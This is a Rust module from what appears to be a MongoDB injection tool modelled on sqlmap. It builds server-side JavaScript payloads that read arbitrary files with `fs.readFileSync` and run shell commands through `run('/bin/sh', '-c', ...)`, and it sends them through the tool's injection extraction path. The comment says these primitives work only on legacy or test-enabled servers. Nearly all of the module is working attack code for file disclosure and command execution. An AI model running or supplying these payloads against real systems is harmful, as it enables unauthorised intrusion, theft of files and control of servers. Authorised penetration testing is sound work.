//! `--file-read`/`--os-cmd`: constructs a one-off MongoDB server-side JS
//! expression (file read via `fs.readFileSync`, shell-out via
//! `run("/bin/sh", "-c", ...)` on an `mongod` started with
//! `--setParameter enableTestCommands=1`) and drives it through the
//! custom-expression extraction path. Neither primitive works against a
//! hardened/modern MongoDB deployment; both are legacy-server-only by
//! nature, matching the reference tool's own caveated behavior.

use crate::engine::Engine;
use crate::orchestrator;

pub fn read_file(engine: &Engine, path: &str) -> anyhow::Result<Option<String>> {
    let escaped = escape_js_string(path);
    let expr = format!("require('fs').readFileSync('{escaped}', 'utf8')");
    orchestrator::run_custom_expression(engine, &expr)
}

pub fn run_os_command(engine: &Engine, command: &str) -> anyhow::Result<Option<String>> {
    let escaped = escape_js_string(command);
    let expr = format!("run('/bin/sh', '-c', '{escaped}')");
    orchestrator::run_custom_expression(engine, &expr)
}

fn escape_js_string(s: &str) -> String {
    s.replace('\\', "\\\\").replace('\'', "\\'")
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn escape_js_string_handles_quotes_and_backslashes() {
        assert_eq!(escape_js_string("it's \\ok"), "it\\'s \\\\ok");
    }
}
